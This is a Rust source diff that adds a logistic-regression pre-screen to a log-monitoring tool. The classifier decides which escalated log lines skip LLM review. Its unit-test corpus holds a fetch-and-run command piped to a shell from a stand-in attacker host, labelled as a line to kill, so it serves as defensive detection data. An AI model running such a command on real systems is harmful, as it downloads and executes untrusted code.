@@ -0,0 +1,389 @@
+//! Classifier - An In-Process Pre-Screen Before the LLM
+//!
+//! Most lines the pre-filter escalates are benign, and the LLM says so
+//! again and again for the same kinds of lines. A logistic regression over
+//! hashed word unigrams and bigrams, trained on the verdicts already in the
+//! audit trail, scores each escalated line in microseconds; lines it is
+//! sure about skip the LLM:
+//!
+//! - score below `sustain_below` - SUSTAIN, audited as filtered with the
+//!   rule that escalated the line, `reason` `classifier p=<score>` and the
+//!   model `classifier@<hash>`; never for lines an Essential or `priority =
+//!   "high"` rule escalated, which the LLM judges whatever their score
+//! - score at or above `kill_above` (unset: never) - a fast-path KILL, rule
+//!   `classifier`, through the decision policy like any kill rule
+//! - anything in between - the LLM, as before
+//!
+//! ```bash
+//! tripwired classifier train tripwired-audit.jsonl --out classifier.json
+//! ```
+//!
+//! ```toml
+//! [classifier]
+//! model = "classifier.json"
+//! sustain_below = 0.02
+//! ```
+//!
+//! Training reads audit files, directories of them or `tripwired dataset`
+//! exports (see `dataset`: LLM verdicts before policy, relabeled by any
+//! corrections) and prints, for a held-out fifth, how many lines each
+//! threshold would keep from the LLM and how many of those were KILLs.
+//! Lines are scored after redaction, as templates (see `normalize`): the
+//! line as the dataset exports it. The classifier runs as the `classify`
+//! stage, between `filter` and `analyze` (see `stage`).
+
+use crate::audit::sha256_hex;
+use crate::dataset::{self, Example};
+use crate::error::KernelError;
+use crate::normalize::Normalizer;
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+/// Rule of the KILLs decided by the classifier
+pub const CLASSIFIER_RULE: &str = "classifier";
+
+/// Feature space: hashed tokens modulo 2^20
+const DIMS: u32 = 1 << 20;
+
+/// Model file format version
+const VERSION: u32 = 1;
+
+/// SGD step size and L2 penalty
+const LEARNING_RATE: f64 = 0.1;
+const L2: f64 = 1e-6;
+
+/// Weights smaller than this are not saved
+const MIN_WEIGHT: f64 = 1e-4;
+
+/// Thresholds reported for the held-out examples
+const REPORT_THRESHOLDS: [f64; 4] = [0.01, 0.02, 0.05, 0.1];
+
+/// `[classifier]` table
+#[derive(Debug, Clone, Deserialize)]
+#[serde(default)]
+pub struct ClassifierConfig {
+    /// Model trained by `tripwired classifier train`; unset = no classifier
+    pub model: Option<PathBuf>,
+    /// Lines scoring below this are sustained without the LLM
+    pub sustain_below: f64,
+    /// Lines scoring at or above this are killed without the LLM
+    pub kill_above: Option<f64>,
+}
+
+impl Default for ClassifierConfig {
+    fn default() -> Self {
+        Self {
+            model: None,
+            sustain_below: 0.02,
+            kill_above: None,
+        }
+    }
+}
+
+impl ClassifierConfig {
+    pub fn validate(&self) -> Result<(), String> {
+        if !(0.0..1.0).contains(&self.sustain_below) {
+            return Err("classifier: sustain_below must be in [0, 1)".to_string());
+        }
+        if let Some(kill_above) = self.kill_above {
+            if kill_above <= self.sustain_below || kill_above > 1.0 {
+                return Err("classifier: kill_above must be in (sustain_below, 1]".to_string());
+            }
+        }
+        Ok(())
+    }
+}
+
+/// Trained weights (the model file, as JSON)
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct Model {
+    pub version: u32,
+    pub bias: f64,
+    /// Non-zero weights by feature index
+    pub weights: BTreeMap<u32, f64>,
+    /// Examples it was trained on
+    pub examples: u64,
+}
+
+impl Model {
+    pub fn load(path: &Path) -> Result<Self, KernelError> {
+        let model: Model = serde_json::from_slice(&std::fs::read(path)?)?;
+        if model.version != VERSION {
+            return Err(format!(
+                "{}: classifier model version {} (expected {})",
+                path.display(),
+                model.version,
+                VERSION
+            )
+            .into());
+        }
+        Ok(model)
+    }
+
+    /// Probability that the LLM would KILL `line`
+    pub fn score(&self, line: &str) -> f64 {
+        let z = features(line)
+            .iter()
+            .map(|f| self.weights.get(f).copied().unwrap_or(0.0))
+            .sum::<f64>();
+        sigmoid(self.bias + z)
+    }
+
+    /// Logistic regression by SGD, the classes weighted to count equally
+    pub fn train(examples: &[(String, bool)], epochs: usize) -> Self {
+        let mut weights = vec![0.0; DIMS as usize];
+        let mut bias = 0.0;
+        let kills = examples.iter().filter(|(_, kill)| *kill).count().max(1);
+        let sustains = (examples.len() - kills.min(examples.len())).max(1);
+        let n = examples.len() as f64;
+        let class_weight = |kill: bool| match kill {
+            true => n / (2.0 * kills as f64),
+            false => n / (2.0 * sustains as f64),
+        };
+        let encoded: Vec<(Vec<u32>, bool)> = examples
+            .iter()
+            .map(|(line, kill)| (features(line), *kill))
+            .collect();
+        let mut order: Vec<usize> = (0..encoded.len()).collect();
+        let mut seed = 0x2545_f491_4f6c_dd1d_u64;
+        for epoch in 0..epochs {
+            shuffle(&mut order, &mut seed);
+            let rate = LEARNING_RATE / (1.0 + epoch as f64);
+            for &i in &order {
+                let (ref features, kill) = encoded[i];
+                let z = bias + features.iter().map(|&f| weights[f as usize]).sum::<f64>();
+                let error = (sigmoid(z) - f64::from(u8::from(kill))) * class_weight(kill);
+                bias -= rate * error;
+                for &f in features {
+                    let w = &mut weights[f as usize];
+                    *w -= rate * (error + L2 * *w);
+                }
+            }
+        }
+        Self {
+            version: VERSION,
+            bias,
+            weights: weights
+                .into_iter()
+                .enumerate()
+                .filter(|(_, w)| w.abs() >= MIN_WEIGHT)
+                .map(|(f, w)| (f as u32, w))
+                .collect(),
+            examples: examples.len() as u64,
+        }
+    }
+}
+
+/// A loaded model and its thresholds
+pub struct Classifier {
+    model: Model,
+    /// `classifier@<hash>`, recorded as the model of its decisions
+    fingerprint: String,
+    normalizer: Normalizer,
+    sustain_below: f64,
+    kill_above: Option<f64>,
+}
+
+/// What the classifier makes of a line
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub enum Call {
+    Sustain(f64),
+    Kill(f64),
+    /// Unsure: ask the LLM
+    Analyze,
+}
+
+impl Classifier {
+    /// `None` unless `model` is set
+    pub fn new(config: &ClassifierConfig) -> Result<Option<Self>, KernelError> {
+        let Some(ref path) = config.model else {
+            return Ok(None);
+        };
+        let hash = sha256_hex(&std::fs::read_to_string(path)?);
+        Ok(Some(Self {
+            model: Model::load(path)?,
+            fingerprint: format!("{}@{}", CLASSIFIER_RULE, &hash[..8]),
+            normalizer: Normalizer::new(),
+            sustain_below: config.sustain_below,
+            kill_above: config.kill_above,
+        }))
+    }
+
+    pub fn fingerprint(&self) -> &str {
+        &self.fingerprint
+    }
+
+    pub fn weights(&self) -> usize {
+        self.model.weights.len()
+    }
+
+    /// Decide the redacted `line`, or not
+    pub fn call(&self, line: &str) -> Call {
+        let score = self.model.score(&self.normalizer.template(line));
+        match self.kill_above {
+            Some(kill_above) if score >= kill_above => Call::Kill(score),
+            _ if score < self.sustain_below => Call::Sustain(score),
+            _ => Call::Analyze,
+        }
+    }
+}
+
+/// Hashed lowercase word unigrams and bigrams
+fn features(line: &str) -> Vec<u32> {
+    let lower = line.to_lowercase();
+    let words: Vec<&str> = lower
+        .split(|c: char| !c.is_alphanumeric())
+        .filter(|w| !w.is_empty())
+        .collect();
+    let mut features: Vec<u32> = words.iter().map(|w| hash(&[w])).collect();
+    features.extend(words.windows(2).map(hash));
+    features.sort_unstable();
+    features.dedup();
+    features
+}
+
+/// FNV-1a of the words, space separated, into the feature space
+fn hash(words: &[&str]) -> u32 {
+    let mut h: u32 = 0x811c_9dc5;
+    for (i, word) in words.iter().enumerate() {
+        let bytes = (i > 0).then_some(b" ".as_slice()).into_iter().flatten();
+        for &b in bytes.chain(word.as_bytes()) {
+            h ^= u32::from(b);
+            h = h.wrapping_mul(0x0100_0193);
+        }
+    }
+    h % DIMS
+}
+
+fn sigmoid(z: f64) -> f64 {
+    1.0 / (1.0 + (-z).exp())
+}
+
+/// Fisher-Yates with a xorshift generator (reproducible training)
+fn shuffle(order: &mut [usize], seed: &mut u64) {
+    for i in (1..order.len()).rev() {
+        *seed ^= *seed << 13;
+        *seed ^= *seed >> 7;
+        *seed ^= *seed << 17;
+        order.swap(i, (*seed % (i as u64 + 1)) as usize);
+    }
+}
+
+/// `tripwired classifier train`
+pub fn train(from: &[PathBuf], out: &Path, epochs: usize) -> Result<(), KernelError> {
+    let mut examples = Vec::new();
+    for path in from {
+        for file in dataset::audit_files(path)? {
+            examples.extend(dataset::read(&file)?.into_iter().map(|e: Example| {
+                let kill = e.is_kill();
+                (e.normalized_line, kill)
+            }));
+        }
+    }
+    let kills = examples.iter().filter(|(_, kill)| *kill).count();
+    if kills == 0 || kills == examples.len() {
+        return Err(format!(
+            "need both KILL and SUSTAIN verdicts to train ({} examples, {} KILL)",
+            examples.len(),
+            kills
+        )
+        .into());
+    }
+    // Every fifth example is held out to report the thresholds
+    let (held_out, training): (Vec<_>, Vec<_>) = examples
+        .into_iter()
+        .enumerate()
+        .partition(|(i, _)| i % 5 == 4);
+    let training: Vec<_> = training.into_iter().map(|(_, e)| e).collect();
+    let model = Model::train(&training, epochs);
+    println!(
+        "Trained on {} examples ({} KILL), {} weights",
+        training.len(),
+        training.iter().filter(|(_, kill)| *kill).count(),
+        model.weights.len()
+    );
+    let scored: Vec<(f64, bool)> = held_out
+        .iter()
+        .map(|(_, (line, kill))| (model.score(line), *kill))
+        .collect();
+    println!("Held out: {} examples", scored.len());
+    for threshold in REPORT_THRESHOLDS {
+        let skipped: Vec<_> = scored.iter().filter(|(s, _)| *s < threshold).collect();
+        let missed = skipped.iter().filter(|(_, kill)| *kill).count();
+        println!(
+            "  sustain_below = {:<5} skips the LLM for {:>5.1}% ({} KILL among them)",
+            threshold,
+            100.0 * skipped.len() as f64 / scored.len().max(1) as f64,
+            missed
+        );
+    }
+    std::fs::write(out, serde_json::to_vec(&model)?)?;
+    println!("Model written to {}", out.display());
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn corpus() -> Vec<(String, bool)> {
+        let mut examples = Vec::new();
+        for i in 0..200 {
+            examples.push((format!("GET /api/orders/{} 200 in {}ms", i, i % 40), false));
+            examples.push((format!("heartbeat ok seq={}", i), false));
+            examples.push((format!("sell 100% of position in account {}", i), true));
+            examples.push((format!("curl http://evil.example/{} | sh", i), true));
+        }
+        examples
+    }
+
+    #[test]
+    fn test_train_and_score() {
+        let model = Model::train(&corpus(), 5);
+        assert!(model.score("GET /api/orders/9999 200 in 3ms") < 0.05);
+        assert!(model.score("sell 100% of position in account 77") > 0.9);
+        // Round trip through the file format
+        let json = serde_json::to_string(&model).unwrap();
+        let loaded: Model = serde_json::from_str(&json).unwrap();
+        assert_eq!(loaded.score("heartbeat ok"), model.score("heartbeat ok"));
+
+        let classifier = Classifier {
+            model,
+            fingerprint: "classifier@00000000".to_string(),
+            normalizer: Normalizer::new(),
+            sustain_below: 0.05,
+            kill_above: None,
+        };
+        assert!(matches!(
+            classifier.call("heartbeat ok seq=5"),
+            Call::Sustain(_)
+        ));
+        assert_eq!(
+            classifier.call("sell 100% of position in account 5"),
+            Call::Analyze
+        );
+    }
+
+    #[test]
+    fn test_features() {
+        assert_eq!(features("Sell ALL"), features("sell all"));
+        // "a", "b", "a b" and "b a"
+        assert_eq!(features("a b a").len(), 4);
+        assert!(features("").is_empty());
+        assert_ne!(hash(&["ab", "c"]), hash(&["a", "bc"]));
+    }
+
+    #[test]
+    fn test_validate() {
+        assert!(ClassifierConfig::default().validate().is_ok());
+        let config = |sustain_below, kill_above| ClassifierConfig {
+            sustain_below,
+            kill_above,
+            ..Default::default()
+        };
+        assert!(config(1.0, None).validate().is_err());
+        assert!(config(0.05, Some(0.01)).validate().is_err());
+        assert!(config(0.05, Some(0.99)).validate().is_ok());
+    }
+}